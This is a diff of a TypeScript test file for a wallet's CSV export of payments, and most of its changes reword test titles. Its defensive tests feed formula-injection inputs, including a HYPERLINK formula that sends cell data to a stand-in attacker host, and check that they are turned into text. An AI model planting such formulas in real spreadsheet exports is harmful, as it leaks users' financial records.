@@ -27,13 +27,13 @@ const sent: ExportedActivity = {
 const END = '0.10,USD,,asked,0.002,payment,,,,,\r\n';
 const RECEIVED = END.replace('payment', 'received');
 
-test('a payment in one line, in UTC, every amount as plain digits', () => {
+test('writes a payment in one line, in UTC, with every amount as plain digits', () => {
   expect(csvLines([sent])).toBe(
     `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,,,${END}`,
   );
 });
 
-test('money received, not confirmed: what it has not is empty', () => {
+test('leaves missing values of unconfirmed received money empty', () => {
   const received: ExportedActivity = {
     ...sent,
     id: TXID,
@@ -53,7 +53,7 @@ test('money received, not confirmed: what it has not is empty', () => {
   );
 });
 
-test('a payment that only the chain shows has no payment id, and what could not be worked out has no amount', () => {
+test('a payment that only the chain shows has no payment id, and unknown amounts are empty', () => {
   const restored: ExportedActivity = {
     ...sent,
     id: TXID,
@@ -74,7 +74,7 @@ test('a payment that only the chain shows has no payment id, and what could not 
   );
 });
 
-test('what it was worth then: what was asked, or what money cost when it was seen arriving; else nothing', () => {
+test('writes the value then: the requested amount, or that at arrival, or nothing', () => {
   const priceThen = { currency: 'EUR', price: '40' };
   const worth = (item: Partial<ExportedActivity>) =>
     csvLines([{ ...sent, amount: null, currency: null, ...item }])
@@ -98,7 +98,7 @@ test('what it was worth then: what was asked, or what money cost when it was see
   expect(worth({ isFromChain: true, worthThen })).toEqual(['0.11', 'USD', '', 'service']);
 });
 
-test('shows who paid by paymail, whether their host confirms it, and the note', () => {
+test('writes the sender of a paymail payment, whether their host confirms it, and the note', () => {
   const received: ExportedActivity = {
     ...sent,
     direction: 'received',
@@ -113,7 +113,7 @@ test('shows who paid by paymail, whether their host confirms it, and the note', 
   ).toBe(true);
 });
 
-test('what it was: a refund, said or possible, a cancellation, a payment that gives another back', () => {
+test('writes the kind: a confirmed or possible refund, a cancellation, or a refund by the user', () => {
   const kind = (item: Partial<ExportedActivity>) =>
     csvLines([{ ...sent, ...item }])
       .trimEnd()
@@ -126,11 +126,11 @@ test('what it was: a refund, said or possible, a cancellation, a payment that gi
   expect(kind({ givesBack: 'p-2' })).toEqual(['refund', 'p-2']);
 });
 
-test('a time that is not known is empty', () => {
+test('leaves an unknown time empty', () => {
   expect(csvLines([{ ...sent, isTimeUnknown: true }])).toMatch(/^,sent,COMPLETED,/);
 });
 
-test('several recipients, each with what it got', () => {
+test('writes several recipients, each with their amount', () => {
   const recipients = [
     { to: 'a@x.example', satoshis: '1' },
     { to: '42', satoshis: '2' },
@@ -138,7 +138,7 @@ test('several recipients, each with what it got', () => {
   expect(csvLines([{ ...sent, recipients }])).toContain(',a@x.example (1 satoshis); 42 (2 satoshis),');
 });
 
-test('of recipients that are not all stored, how many more there are', () => {
+test('writes the number of recipients that are not stored', () => {
   const recipients = [
     { to: 'a@x.example', satoshis: '1' },
     { to: '42', satoshis: '2' },
@@ -150,7 +150,7 @@ test('of recipients that are not all stored, how many more there are', () => {
   expect(csvLines([unknown])).toContain(',https://shop.example,,0.10,');
 });
 
-test('the file begins with a byte order mark and the names of the columns', () => {
+test('a file begins with a byte order mark and the names of the columns', () => {
   expect(CSV_START).toBe(
     '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note,label,value then,value currency,price then,value source,bsv,kind,refund of,asset id,asset amount,asset symbol,asset source\r\n',
   );
@@ -179,7 +179,7 @@ test.each([
   '\n=1',
   '＝1',
   '=HYPERLINK("https://evil.example?"&A1,"x")',
-])('a formula is made text: %j', (buttonId) => {
+])('turns a formula into text: %j', (buttonId) => {
   const [, cell = ''] =
     /article-0,(.*)$/s.exec(
       csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,,0\.10,USD,,asked,0\.002,payment,,,,,\r\n$/, ''),
@@ -187,14 +187,14 @@ test.each([
   expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
 });
 
-test('a formula in a recipient or a site is made text too', () => {
+test('turns a formula in a recipient or a site into text', () => {
   const line = csvLines([{ ...sent, origin: '=1', recipients: [{ to: '@a', satoshis: '1' }] }]);
   expect(line).toContain(",'=1,'@a,");
 });
 
 /**
- * The cells that a spreadsheet sees whose separator is the semicolon, as in most of Europe: a quotation mark in the
- * middle of one means nothing to it.
+ * The cells in a spreadsheet that uses semicolons as separators, as in most of Europe, where a quotation mark in the
+ * middle of a cell has no meaning.
  */
 const cellsBySemicolon = (text: string) => text.split(/[;\r\n]/);
 
@@ -212,7 +212,7 @@ test.each([
   '1\t=1',
   '1;＝1',
   '1;\u00a0=1',
-])('a formula behind a separator of other countries is made text: %j', (buttonId) => {
+])('turns a formula behind a separator of other countries into text: %j', (buttonId) => {
   for (const item of [
     { ...sent, buttonId },
     {
@@ -230,7 +230,7 @@ test.each([
   }
 });
 
-test('an asset has its ID, amount and symbol, and its satoshi counts as no money', () => {
+test('writes the ID, amount and symbol of an asset, and does not count its satoshi as money', () => {
   const id = `${'cd'.repeat(32)}_3`;
   const gold = { symbol: '=GOLD', decimals: 2, units: '1250' };
   const columns = (item: Partial<ExportedActivity>) => {
